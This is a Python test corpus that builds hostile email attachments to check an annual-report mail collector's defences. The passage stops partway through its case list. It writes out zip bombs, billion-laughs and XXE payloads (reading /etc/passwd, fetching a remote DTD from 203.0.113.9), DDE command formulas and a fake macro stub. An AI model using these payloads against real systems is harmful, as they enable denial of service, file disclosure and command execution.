"""A hostile batch: files and mails built to hurt a collector, next to valid replies.

Every case builds one raw message from the templates a real dispatch sent, and says exactly what
must become of it: the answer its sender gets (the ``X-Nianbao-Kind`` of the mail), whether the
coordinator gets a notice, the submission rows it leaves (status, failure kind or match rule,
unit) and the message's outcome. ``tests/hostile/test_hostile.py`` runs the whole batch through
the real collect flow (dovecot IMAP, aiosmtpd, SQLite) and checks each case;
``python tests/hostile/corpus.py`` prints the table of ``docs/security.md``.

The units (``tests/flowkit.py``): SZF, RSJ and JYJ send valid reports first and must be
accepted; CZJ sends the broken and hostile files (each one more unreadable version of CZJ's);
the others play the valid-but-odd and identity cases.
"""

from __future__ import annotations

import base64
import io
import mimetypes
import random
import re
import struct
import tempfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from email.message import EmailMessage
from email.policy import SMTP
from email.utils import format_datetime, make_msgid
from pathlib import Path
from typing import Any

DOMAIN = "zhangshu.example"
STRANGER = "clerk.wang@qq.example"
XLSX_TYPE = ("application", "vnd.openxmlformats-officedocument.spreadsheetml.sheet")
S3 = "xl/worksheets/sheet4.xml"  # 三、收到和处理政府信息公开申请情况
SHEET3 = "三、收到和处理政府信息公开申请情况"
MB = 1024 * 1024


@dataclass(frozen=True)
class Expect:
    """What must become of one case."""

    answer: str | None  # the kind of the mail its sender gets (None: no mail to the sender)
    notice: bool = False  # the coordinator gets a notice about it
    status: str | None = None  # every submission it leaves has this status (None: none)
    kind: str | None = None  # their failure kind (unreadable) or match rule (quarantined)
    unit: str | None = None  # the unit they are recorded as (None: none)
    files: int = 1  # how many submissions (when status is given)
    outcome: str = "workbooks"  # messages.outcome
    says: str = ""  # a phrase the sender's mail must contain
    also: tuple[str, ...] = ()  # further mails its sender gets (their kinds)


@dataclass
class Case:
    name: str
    category: str
    what: str  # the input, in words (for the table)
    expect: Expect
    build: Callable[[Batch], tuple[bytes, str]]  # → (raw message, Message-ID)
    sender: str = "CZJ"  # a unit code, or an address


@dataclass
class Batch:
    """What the builders work from: the templates and invitations of a real dispatch."""

    templates: dict[str, bytes]  # unit → its personalised template (with its token)
    invitations: dict[str, Any]  # unit → the invitation mail (flowkit.Sent)
    stale: dict[str, bytes]  # unit → its template of an earlier campaign
    when: Any  # the replies' Date
    cache: dict[str, bytes] = field(default_factory=dict)
    sent: dict[str, bytes] = field(default_factory=dict)  # case name → raw message

    def filled(self, unit: str, seed: int = 0, **changes: Any) -> bytes:
        """``unit``'s template filled with consistent values (``changes`` typed over them);
        each ``seed`` a file of its own bytes (an unreferenced part tells them apart, so that
        no two cases send the same file by accident)."""
        key = f"{unit}:{hash(repr(sorted(changes.items())))}"
        if key not in self.cache:
            self.cache[key] = fill(self.templates[unit], unit, 0, changes)
        if not seed:
            return self.cache[key]
        return rezip(self.cache[key], add={"customXml/case.xml": b"<case n='%d'/>" % seed})


def fill(template: bytes, unit: str, seed: int, changes: dict[str, Any]) -> bytes:
    from annual_report.form.model import form_for_year
    from annual_report.samples import consistent_values, fill_template, sample_narrative

    form = form_for_year(2021)
    rng = random.Random(f"{unit}-{seed}")
    values: dict[str, Any] = dict(consistent_values(form, rng))
    narrative = sample_narrative(2021, values, rng)
    for code, value in changes.items():
        (narrative if code.startswith("narrative.") else values)[code] = value
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "template.xlsx"
        path.write_bytes(template)
        return fill_template(path, Path(tmp) / "filled.xlsx", values, narrative).read_bytes()


def with_meta(data: bytes, **cells: str) -> bytes:
    """The workbook with cells of its hidden ``_meta`` sheet retyped (as a clerk who found it
    would)."""
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book["_meta"]
    for row in sheet.iter_rows(min_row=2):
        if row[0].value in cells:
            row[1].value = cells[row[0].value]
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


# -- zip surgery ---------------------------------------------------------------------------


def rezip(
    data: bytes,
    replace: dict[str, Callable[[bytes], bytes]] | None = None,
    add: dict[str, bytes] | None = None,
    *,
    stored: set[str] = frozenset(),  # type: ignore[assignment]
) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w") as zout:
        for item in zin.infolist():
            content = zin.read(item.filename)
            if replace and item.filename in replace:
                content = replace[item.filename](content)
            method = zipfile.ZIP_STORED if item.filename in stored else zipfile.ZIP_DEFLATED
            zout.writestr(item.filename, content, compress_type=method)
        for name, content in (add or {}).items():
            method = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            zout.writestr(name, content, compress_type=method)
    return out.getvalue()


def in_sheet(extra: bytes) -> Callable[[bytes], bytes]:
    return lambda xml: xml.replace(b"</sheetData>", extra + b"</sheetData>")


def doctype(body: bytes, root: bytes = b"x") -> Callable[[bytes], bytes]:
    """Insert a document type declaration after the XML declaration (or at the start)."""

    def insert(xml: bytes) -> bytes:
        declaration = re.match(rb"<\?xml[^>]*\?>", xml)
        at = declaration.end() if declaration else 0
        return xml[:at] + b"<!DOCTYPE " + root + b" [" + body + b"]>" + xml[at:]

    return insert


LAUGHS = b"".join(
    b'<!ENTITY l%d "%s">' % (i, (b"&l%d;" % (i - 1)) * 10 if i else b"lol") for i in range(10)
)
XXE = b'<!ENTITY xxe SYSTEM "file:///etc/passwd">'
PARAM = b'<!ENTITY % p SYSTEM "http://203.0.113.9/evil.dtd"> %p;'


def lying_size(data: bytes, member: str, declared: int) -> bytes:
    """``member`` declares ``declared`` bytes in both its headers, whatever it holds."""
    buf = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = archive.getinfo(member)
    struct.pack_into("<L", buf, info.header_offset + 22, declared)
    central = buf.find(b"PK\x01\x02")
    while central >= 0:
        length = struct.unpack_from("<H", buf, central + 28)[0]
        if buf[central + 46 : central + 46 + length] == member.encode():
            struct.pack_into("<L", buf, central + 24, declared)
            break
        central = buf.find(b"PK\x01\x02", central + 4)
    return bytes(buf)


def locked(data: bytes) -> bytes:
    """A zip whose members all claim to be encrypted (the flag a password sets)."""
    buf = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = buf.find(signature)
        while at >= 0:
            struct.pack_into(
                "<H", buf, at + offset, struct.unpack_from("<H", buf, at + offset)[0] | 1
            )
            at = buf.find(signature, at + 4)
    return bytes(buf)


SST_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
SST_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"


def with_shared_strings(data: bytes, table: bytes, **replace: Callable[[bytes], bytes]) -> bytes:
    """The workbook with a shared-string table of its own (openpyxl writes inline strings);
    ``replace``: more parts to change (``/`` written ``__``)."""
    changes: dict[str, Callable[[bytes], bytes]] = {
        "[Content_Types].xml": lambda x: x.replace(
            b"</Types>",
            b'<Override PartName="/xl/sharedStrings.xml" ContentType="%s"/></Types>'
            % SST_TYPE.encode(),
        ),
        "xl/_rels/workbook.xml.rels": lambda x: x.replace(
            b"</Relationships>",
            b'<Relationship Id="rIdSst" Type="%s" Target="sharedStrings.xml"/></Relationships>'
            % SST_REL.encode(),
        ),
    }
    changes.update({part.replace("__", "/"): fn for part, fn in replace.items()})
    return rezip(data, changes, add={"xl/sharedStrings.xml": table})


def sst(*strings: str, declared: int | None = None, prolog: bytes = b"") -> bytes:
    count = len(strings) if declared is None else declared
    body = "".join(f"<si><t>{text}</t></si>" for text in strings).encode()
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        + prolog
        + b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        + b'count="%d" uniqueCount="%d">' % (count, count)
        + body
        + b"</sst>"
    )


def swap(data: bytes, placeholder: str, text: str) -> bytes:
    """Put ``text`` where a cell says ``placeholder``, in the sheet XML itself: a spreadsheet
    program cuts a cell at 32,767 characters, a hostile file need not."""
    sheets = [n for n in zipfile.ZipFile(io.BytesIO(data)).namelist() if "worksheets/" in n]
    change = {n: (lambda x: x.replace(placeholder.encode(), text.encode())) for n in sheets}
    return rezip(data, change)


def plain_zip(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def stored_pad(data: bytes, megabytes: int) -> bytes:
    """A valid workbook grown to ``megabytes`` by a stored (uncompressed) member of zeros."""
    return rezip(
        data, add={"xl/media/pad.bin": b"\0" * (megabytes * MB)}, stored={"xl/media/pad.bin"}
    )


def cells_row(row: int, count: int, *, addressed: bool = True) -> bytes:
    cells = b"".join(
        (
            b'<c r="%s%d"><v>1</v></c>' % (column(i).encode(), row)
            if addressed
            else b"<c><v>1</v></c>"
        )
        for i in range(count)
    )
    return b'<row r="%d">%s</row>' % (row, cells)


def column(index: int) -> str:
    letters = ""
    index += 1
    while index:
        index, rem = divmod(index - 1, 26)
        letters = chr(65 + rem) + letters
    return letters


# -- mail ------------------------------------------------------------------------------------


def address(who: str) -> str:
    return who if "@" in who else f"{who.lower().replace('-', '.')}@{DOMAIN}"


def message(
    batch: Batch,
    sender: str,
    *,
    files: list[tuple[str, bytes]] | tuple[tuple[str, bytes], ...] = (),
    thread: str | None = "own",
    subject: str | None = None,
    text: str = "您好，我单位年度报告见附件，请审核。",
) -> tuple[bytes, str]:
    """A reply as a mail client writes it; ``thread``: "own" (the sender's invitation), a unit
    (that unit's invitation), or None (a new mail)."""
    msg = EmailMessage()
    msg["From"] = address(sender)
    msg["To"] = f"zwgk@{DOMAIN}"
    answering = None
    if thread == "own" and "@" not in sender:
        answering = batch.invitations[sender]
    elif thread not in (None, "own"):
        answering = batch.invitations[thread]
    msg["Subject"] = (
        subject if subject is not None else (f"回复：{answering.subject}" if answering else "年报")
    )
    msg["Date"] = format_datetime(batch.when)
    message_id = make_msgid(domain="hostile.example")
    msg["Message-ID"] = message_id
    if answering is not None:
        msg["In-Reply-To"] = answering.message_id
        msg["References"] = answering.message_id
    msg.set_content(text)
    for name, content in files:
        kind = mimetypes.guess_type(name)[0] or "application/octet-stream"
        main, sub = kind.split("/", 1)
        msg.add_attachment(content, maintype=main, subtype=sub, filename=name)
    return msg.as_bytes(policy=SMTP), message_id


def by_hand(
    batch: Batch, sender: str, body: bytes, *, headers: bytes = b"", thread: str | None = "own"
) -> tuple[bytes, str]:
    """A message written byte by byte (for structures no mail library writes)."""
    answering = batch.invitations.get(sender) if thread == "own" else None
    message_id = make_msgid(domain="hostile.example")
    head = (
        f"From: {address(sender)}\r\nTo: zwgk@{DOMAIN}\r\n"
        f"Date: {format_datetime(batch.when)}\r\nMessage-ID: {message_id}\r\nMIME-Version: 1.0\r\n"
    ).encode()
    if answering is not None:
        subject = base64.b64encode(("回复：" + answering.subject).encode()).decode()
        head += f"Subject: =?utf-8?b?{subject}?=\r\n".encode()
        head += f"In-Reply-To: {answering.message_id}\r\n".encode()
    return head + headers + body, message_id


def attachment_part(
    name: str, content: bytes, *, encoding: bytes = b"base64", encoded: bool = False
) -> bytes:
    """An attachment part; ``encoded``: ``content`` is the payload as it is to appear."""
    payload = base64.encodebytes(content) if encoding == b"base64" and not encoded else content
    return (
        b'Content-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet; name="'
        + name.encode()
        + b'"\r\nContent-Disposition: attachment; filename="'
        + name.encode()
        + b'"\r\nContent-Transfer-Encoding: '
        + encoding
        + b"\r\n\r\n"
        + payload
    )


def nested(depth: int, inner: bytes) -> tuple[bytes, bytes]:
    """(headers, body) of ``depth`` multiparts, each the only part of the one above."""
    headers = b'Content-Type: multipart/mixed; boundary="b0"\r\n\r\n'
    body = b"--b0\r\n"
    for i in range(1, depth):
        body += b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (i, i)
    body += inner + b"\r\n"
    for i in reversed(range(depth)):
        body += b"--b%d--\r\n" % i
    return headers, body


# -- the cases --------------------------------------------------------------------------------

CASES: list[Case] = []


def case(name: str, category: str, what: str, expect: Expect, sender: str = "CZJ"):
    def register(build: Callable[[Batch], tuple[bytes, str]]):
        CASES.append(Case(name, category, what, expect, build, sender))
        return build

    return register


def unreadable(kind: str, says: str = "") -> Expect:
    return Expect("unreadable", status="unreadable", kind=kind, unit="CZJ", says=says)


def czj_file(name: str, make: Callable[[Batch], bytes]) -> Callable[[Batch], tuple[bytes, str]]:
    return lambda batch: message(batch, "CZJ", files=[(name, make(batch))])


# Valid replies first: they must be accepted whatever follows.
for unit in ("SZF", "RSJ", "JYJ"):
    case(
        f"valid-{unit.lower()}",
        "valid",
        f"{unit}'s filled template, in its thread, from its address",
        Expect("receipt", status="accepted", kind=None, unit=unit),
        sender=unit,
    )(lambda batch, unit=unit: message(batch, unit, files=[("年报.xlsx", batch.filled(unit))]))


def _bomb(label: str, what: str, make: Callable[[Batch], bytes], kind: str = "decompression-bomb"):
    case(f"bomb-{label}", "bomb", what, unreadable(kind))(czj_file(f"{label}.xlsx", make))


_bomb(
    "member",
    "a sheet padded to 60 MB of whitespace (declared in the zip)",
    lambda b: rezip(b.filled("CZJ", 1), {S3: in_sheet(b" " * 60 * MB)}),
)
_bomb(
    "ratio",
    "a sheet padded to 5 MB of whitespace: 1000:1",
    lambda b: rezip(b.filled("CZJ", 2), {S3: in_sheet(b" " * 5 * MB)}),
)
_bomb(
    "lying-member",
    "a sheet that declares 8 KB and inflates to 60 MB",
    lambda b: lying_size(rezip(b.filled("CZJ", 3), {S3: in_sheet(b" " * 60 * MB)}), S3, 8192),
)
_bomb(
    "total",
    "nine 6 MB members of moderate ratio, 54 MB together",
    lambda b: rezip(
        b.filled("CZJ", 4),
        add={
            f"xl/media/image{i}.bin": b"".join(
                random.Random(i).randbytes(120) + b"\0" * 6000 for _ in range(1000)
            )
            for i in range(9)
        },
    ),
)
_bomb(
    "members",
    "5,001 members",
    lambda b: rezip(b.filled("CZJ", 5), add={f"xl/x/{i}.xml": b"" for i in range(5001)}),
)
_bomb(
    "directory",
    "an end record claiming 65,535 members in a 4 GB directory",
    lambda b: (
        lambda d: d[:-22] + d[-22:-12] + struct.pack("<HLL", 0xFFFF, 0xFFFFFFF0, 0) + d[-2:]
    )(b.filled("CZJ", 6)),
)
_bomb(
    "sst-declared",
    "a shared-string table declaring 4,000,000,000 strings",
    lambda b: with_shared_strings(b.filled("CZJ", 7), sst("年报", declared=4_000_000_000)),
)
_bomb(
    "sst-entries",
    "a shared-string table holding 200,001 strings",
    lambda b: with_shared_strings(b.filled("CZJ", 8), sst(*(["x"] * 200_001))),
)
AMPLIFIED = b"".join(
    b'<row r="%d">%s</row>'
    % (r, b"".join(b'<c r="%s%d" t="s"><v>0</v></c>' % (column(c).encode(), r) for c in range(200)))
    for r in range(100, 590)
)
_bomb(
    "amplifier",
    "98,000 cells each a copy of one 4,000-character shared string (1 GB once read)",
    lambda b: with_shared_strings(
        b.filled("CZJ", 9), sst("年报" * 2000), **{S3.replace("/", "__"): in_sheet(AMPLIFIED)}
    ),
    kind="crashed",
)


@case(
    "zip-four-large-workbooks",
    "bomb",
    "a zip of four workbooks of 24 MB each (stored padding): 100 KB on the wire",
    Expect(
        "unreadable",
        status="unreadable",
        kind="too-large",
        unit="CZJ",
        files=4,
        also=("several_workbooks",),
    ),
)
def _(batch: Batch) -> tuple[bytes, str]:
    big = stored_pad(batch.filled("CZJ", 10), 24)
    return message(
        batch, "CZJ", files=[("年报.zip", plain_zip({f"年报{i}.xlsx": big for i in range(4)}))]
    )


@case(
    "zip-nested",
    "bomb",
    "a zip holding a zip holding a zip (42.zip style)",
    unreadable("nested-archive", "压缩包里还有压缩包"),
)
def _(batch: Batch) -> tuple[bytes, str]:
    inner = plain_zip({"0.zip": plain_zip({"1.zip": plain_zip({"年报.xlsx": b"\0" * MB})})})
    return message(batch, "CZJ", files=[("年报.zip", plain_zip({"年报.zip": inner}))])


@case("zip-many", "bomb", "a zip of 300 workbooks", unreadable("decompression-bomb"))
def _(batch: Batch) -> tuple[bytes, str]:
    return message(
        batch, "CZJ", files=[("多.zip", plain_zip({f"{i}.xlsx": b"x" for i in range(300)}))]
    )


@case(
    "zip-lying-member",
    "bomb",
    "a zip whose workbook declares 8 KB and inflates to 30 MB",
    unreadable("corrupt"),
)
def _(batch: Batch) -> tuple[bytes, str]:
    data = plain_zip({"年报.xlsx": b"\0" * 30 * MB})
    return message(batch, "CZJ", files=[("年报.zip", lying_size(data, "年报.xlsx", 8192))])


# Entity expansion and external entities, in every XML part of a workbook.
for n, (part, label) in enumerate(
    (
        ("[Content_Types].xml", "content-types"),
        ("_rels/.rels", "package-rels"),
        ("xl/workbook.xml", "workbook"),
        ("xl/_rels/workbook.xml.rels", "workbook-rels"),
        (S3, "sheet"),
        ("xl/styles.xml", "styles"),
        ("xl/theme/theme1.xml", "theme"),
        ("docProps/core.xml", "core-properties"),
        ("docProps/app.xml", "app-properties"),
    )
):
    case(
        f"entities-{label}",
        "entities",
        f"a billion-laughs DTD in {part}",
        unreadable("unsafe-xml"),
    )(
        czj_file(
            f"{label}.xlsx",
            lambda b, part=part, n=n: rezip(b.filled("CZJ", 100 + n), {part: doctype(LAUGHS)}),
        )
    )

case(
    "entities-shared-strings",
    "entities",
    "a billion-laughs DTD in xl/sharedStrings.xml",
    unreadable("unsafe-xml"),
)(
    czj_file(
        "shared-strings.xlsx",
        lambda b: with_shared_strings(
            b.filled("CZJ", 119), sst("年报", prolog=b"<!DOCTYPE sst [" + LAUGHS + b"]>")
        ),
    )
)
case(
    "xxe-sheet",
    "entities",
    "an external entity (file:///etc/passwd) referenced in a sheet",
    unreadable("unsafe-xml"),
)(
    czj_file(
        "xxe.xlsx",
        lambda b: rezip(
            b.filled("CZJ", 120),
            {
                S3: lambda x: doctype(XXE, b"worksheet")(x).replace(
                    b"</sheetData>",
                    b'<row r="40"><c r="A40" t="inlineStr"><is><t>&xxe;</t></is></c></row>'
                    b"</sheetData>",
                )
            },
        ),
    )
)
case(
    "xxe-parameter",
    "entities",
    "a parameter entity fetching a remote DTD, in workbook.xml",
    unreadable("unsafe-xml"),
)(
    czj_file(
        "param.xlsx",
        lambda b: rezip(b.filled("CZJ", 121), {"xl/workbook.xml": doctype(PARAM, b"workbook")}),
    )
)
case(
    "entities-utf16",
    "entities",
    "a billion-laughs DTD in a UTF-16 workbook.xml",
    unreadable("unsafe-xml"),
)(
    czj_file(
        "utf16.xlsx",
        lambda b: rezip(
            b.filled("CZJ", 122),
            {
                "xl/workbook.xml": lambda x: (
                    doctype(LAUGHS, b"workbook")(
                        x.replace(b'encoding="UTF-8"', b'encoding="UTF-16"')
                    )
                    .decode()
                    .encode("utf-16")
                )
            },
        ),
    )
)


@case(
    "entities-ods",
    "entities",
    "a billion-laughs DTD in an OpenDocument spreadsheet's content.xml",
    unreadable("unsafe-xml"),
)
def _(batch: Batch) -> tuple[bytes, str]:
    content = (
        b'<?xml version="1.0"?><!DOCTYPE x [' + LAUGHS + b"]><office:document-content "
        b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        b'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><office:body>'
        b'<office:spreadsheet><table:table table:name="S"><table:table-row><table:table-cell>'
        b"&l9;</table:table-cell></table:table-row></table:table></office:spreadsheet>"
        b"</office:body></office:document-content>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", b"application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", content, compress_type=zipfile.ZIP_DEFLATED)
    return message(batch, "CZJ", files=[("年报.ods", out.getvalue())])


# Far and sparse cells, written every way the XML allows.
FAR = {
    "canonical": b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t></t></is></c></row>',
    "lower-case": b'<row r="60000"><c r="zz60000"><v>1</v></c></row>',
    "single-quotes": b"<row r='60000'><c r='ZZ60000'><v>1</v></c></row>",
    "slash-in-attribute": b'<row r="60000"><c r="ZZ60000" x="/>"><v>1</v></c></row>',
    "gt-in-attribute": b'<row r="60000"><c r="ZZ60000" x="a>b"><v>1</v></c></row>',
    "prefixed": (
        b'<x:row xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main" r="60000">'
        b'<x:c r="ZZ60000"><x:v>1</x:v></x:c></x:row>'
    ),
    "character-reference": b'<row r="60000"><c r="&#90;Z60000"><v>1</v></c></row>',
    "r-not-first": b'<row r="60000"><c s="0" r="ZZ60000"><v>1</v></c></row>',
    "newline-in-tag": b'<row r="60000"><c\nr="ZZ60000"\n><v>1</v></c></row>',
    "row-only": b'<row r="60000"><c><v>1</v></c></row>',
    "unaddressed-columns": cells_row(40, 300, addressed=False),
    "row-60000": b'<row r="60000"><c r="A60000"><v>1</v></c></row>',
    "too-many-cells": b"".join(cells_row(r, 200) for r in range(100, 602)),
}
for n, (label, extra) in enumerate(FAR.items()):
    case(
        f"far-{label}",
        "far cells",
        f"a sheet with a far value ({label})",
        unreadable("sheet-too-large"),
    )(
        czj_file(
            f"far-{label}.xlsx",
            lambda b, extra=extra, n=n: rezip(b.filled("CZJ", 200 + n), {S3: in_sheet(extra)}),
        )
    )


@case(
    "far-dimension-only",
    "far cells",
    "a <dimension> claiming A1:XFD1048576 over an ordinary sheet: harmless",
    Expect("receipt", status="accepted", unit="TJJ"),
    sender="TJJ",
)
def _(batch: Batch) -> tuple[bytes, str]:
    data = rezip(
        batch.filled("TJJ"),
        {
            S3: lambda x: re.sub(
                rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', x
            )
        },
    )
    return message(batch, "TJJ", files=[("年报.xlsx", data)])


# Passwords.
@case(
    "encrypted-xlsx",
    "encrypted",
    "a workbook with an opening password",
    unreadable("encrypted", "密码"),
)
def _(batch: Batch) -> tuple[bytes, str]:
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(batch.filled("CZJ", 300))).encrypt("secret", out)
    return message(batch, "CZJ", files=[("加密.xlsx", out.getvalue())])


@case(
    "encrypted-zip",
    "encrypted",
    "a password-protected zip holding the workbook",
    unreadable("encrypted", "压缩包中的"),
)
def _(batch: Batch) -> tuple[bytes, str]:
    return message(
        batch,
        "CZJ",
        files=[("年报.zip", locked(plain_zip({"年报.xlsx": batch.filled("CZJ", 301)})))],
    )


@case(
    "encrypted-ods",
    "encrypted",
    "an OpenDocument spreadsheet with encrypted content",
    unreadable("encrypted"),
)
def _(batch: Batch) -> tuple[bytes, str]:
    manifest = (
        b'<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument'
        b':xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="content.xml">'
        b"<manifest:encryption-data/></manifest:file-entry></manifest:manifest>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", b"application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", random.Random(5).randbytes(4000), zipfile.ZIP_DEFLATED)
        archive.writestr("META-INF/manifest.xml", manifest, zipfile.ZIP_DEFLATED)
    return message(batch, "CZJ", files=[("年报.ods", out.getvalue())])


# Macros, DDE, external links, formula-looking text: read as data, never run.
@case(
    "macros",
    "active content",
    "an .xlsm with a VBA project (macros are never run)",
    Expect("receipt", status="accepted", unit="MZJ"),
    sender="MZJ",
)
def _(batch: Batch) -> tuple[bytes, str]:
    data = rezip(
        batch.filled("MZJ"),
        {
            "[Content_Types].xml": lambda x: x.replace(
                b"</Types>",
                b'<Default Extension="bin" '
                b'ContentType="application/vnd.ms-office.vbaProject"/></Types>',
            )
        },
        add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Auto_Open Shell calc.exe"},
    )
    return message(batch, "MZJ", files=[("年报.xlsm", data)])


@case(
    "dde-and-links",
    "active content",
    "DDE and HYPERLINK formulas typed as narrative text, and an external-link part",
    Expect("receipt", status="accepted", unit="GAJ"),
    sender="GAJ",
)
def _(batch: Batch) -> tuple[bytes, str]:
    data = batch.filled(
        "GAJ",
        **{
            "narrative.problems": "=cmd|' /C calc'!A0 主动公开的及时性有待提高，=HYPERLINK(\"http://203.0.113.9\")。"
        },
    )
    data = rezip(
        data,
        add={
            "xl/externalLinks/externalLink1.xml": b'<?xml version="1.0"?><externalLink xmlns='
            b'"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook r:id='
            b'"rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships"/></externalLink>'
        },
    )
    return message(batch, "GAJ", files=[("年报.xlsx", data)])


@case(
    "formula-in-count",
    "active content",
    "a DDE formula typed as text into a count cell",
    Expect("rejected", status="rejected", unit="XFJ", says="不是数字"),
    sender="XFJ",
)
def _(batch: Batch) -> tuple[bytes, str]:
    data = batch.filled("XFJ", **{"requests.new_received.natural_person": "=cmd|' /C calc'!A0"})
    return message(batch, "XFJ", files=[("年报.xlsx", data)])


# Not a workbook at all.
WRONG = {
    "pdf": ("年报.pdf", b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n%%EOF\n", "PDF"),
    "rtf": ("年报.doc", "{\\rtf1\\ansi 年报}".encode(), "RTF"),
    "html-as-xls": (
        "年报.xls",
        "<html><body><table><tr><td>规章</td></tr></table></body></html>".encode(),
        "网页",
    ),
    "csv": ("年报.csv", "项目,自然人\n本年新收,3\n".encode(), "纯文本"),
    "xml-2003": (
        "年报.xml",
        b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>',
        "XML",
    ),
    "rar": ("年报.rar", b"Rar!\x1a\x07\x01\x00" + bytes(200), "无法识别"),
    "empty": ("年报.xlsx", b"", "空的"),
    "text-as-xlsx": ("年报.xlsx", "见附件".encode(), "纯文本"),
    "corrupt-xls": ("年报.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100), "损坏"),
}
for label, (name, content, says) in WRONG.items():
    kind = {"empty": "empty", "corrupt-xls": "corrupt"}.get(label, "not-a-workbook")
    case(f"wrong-{label}", "wrong type", f"{name}: {label}", unreadable(kind, says))(
        lambda b, name=name, content=content: message(b, "CZJ", files=[(name, content)])
    )


@case(
    "wrong-docx",
    "wrong type",
    "a Word document instead of the template",
    unreadable("not-a-workbook", "Word"),
)
def _(batch: Batch) -> tuple[bytes, str]:
    from docx import Document

    doc = Document()
    doc.add_paragraph("樟树市财政局2021年政府信息公开工作年度报告")
    out = io.BytesIO()
    doc.save(out)
    return message(batch, "CZJ", files=[("年报.docx", out.getvalue())])


@case(
    "wrong-xlsb",
    "wrong type",
    "an Excel binary workbook (.xlsb)",
    unreadable("not-a-workbook", ".xlsb"),
)
def _(batch: Batch) -> tuple[bytes, str]:
    return message(
        batch,
        "CZJ",
        files=[
            ("年报.xlsb", rezip(batch.filled("CZJ", 400), add={"xl/workbook.bin": b"\x83\x01"}))
        ],
    )


@case("wrong-truncated", "wrong type", "a workbook cut in half", unreadable("corrupt", "损坏"))
def _(batch: Batch) -> tuple[bytes, str]:
    data = batch.filled("CZJ", 401)
    return message(batch, "CZJ", files=[("年报.xlsx", data[: len(data) // 2])])


@case(
    "wrong-image-only",
    "wrong type",
    "only a photo of the signed report (an image is never taken for the report)",
    Expect("no_workbook", outcome="no_workbook"),
    sender="SJJ",
)
def _(batch: Batch) -> tuple[bytes, str]:
    msg = EmailMessage()
    raw, message_id = message(batch, "SJJ", text="盖章版见附件照片。")
    msg = __import__("email").message_from_bytes(raw, _class=EmailMessage, policy=SMTP)
    msg.add_attachment(
        b"\x89PNG\r\n\x1a\n" + bytes(64), maintype="image", subtype="png", filename="盖章页.png"
    )
    return msg.as_bytes(policy=SMTP), message_id


# Broken MIME and encodings.
@case(
    "mime-broken-base64",
    "mime",
    "an attachment whose base64 is garbage",
    unreadable("bad-encoding", "编码错误"),
)
def _(batch: Batch) -> tuple[bytes, str]:
    headers = b'Content-Type: multipart/mixed; boundary="x"\r\n\r\n'
    junk = b"UEsDBBQ***!!!not base64 at all@@@\r\n" * 20
    body = b"--x\r\n" + attachment_part("年报.xlsx", junk, encoded=True) + b"\r\n--x--\r\n"
    return by_hand(batch, "CZJ", body, headers=headers)


@case(
    "mime-unknown-encoding",
    "mime",
    "an attachment in an unknown transfer encoding (x-gzip64)",
    unreadable("bad-encoding", "传输编码"),
)
def _(batch: Batch) -> tuple[bytes, str]:
    headers = b'Content-Type: multipart/mixed; boundary="x"\r\n\r\n'
    part = attachment_part(
        "年报.xlsx", base64.encodebytes(batch.filled("CZJ", 500)), encoding=b"x-gzip64"
    )
    return by_hand(batch, "CZJ", b"--x\r\n" + part + b"\r\n--x--\r\n", headers=headers)


@case(
    "mime-truncated",
    "mime",
    "a message cut off in the middle of its attachment",
    unreadable("bad-encoding"),
)
def _(batch: Batch) -> tuple[bytes, str]:
    raw, message_id = message(batch, "CZJ", files=[("年报.xlsx", batch.filled("CZJ", 501))])
    start = raw.index(b"\r\n\r\n", raw.rindex(b"filename")) + 4
    lines = (len(raw) - start) // 78  # base64 lines of 76 characters
    return raw[: start + lines // 2 * 78 + 2], message_id  # two characters into a line


@case(
    "mime-deep-20",
    "mime",
    "the workbook 20 multiparts deep: found and read",
    Expect("receipt", status="accepted", unit="SJJ"),
    sender="SJJ",
)
def _(batch: Batch) -> tuple[bytes, str]:
    headers, body = nested(20, attachment_part("年报.xlsx", batch.filled("SJJ", 1)))
    return by_hand(batch, "SJJ", body, headers=headers)


@case(
    "mime-deep-100",
    "mime",
    "the workbook 100 multiparts deep: beyond the limit of 64",
    Expect("message_problem", outcome="too-deep", says="嵌套过深"),
)
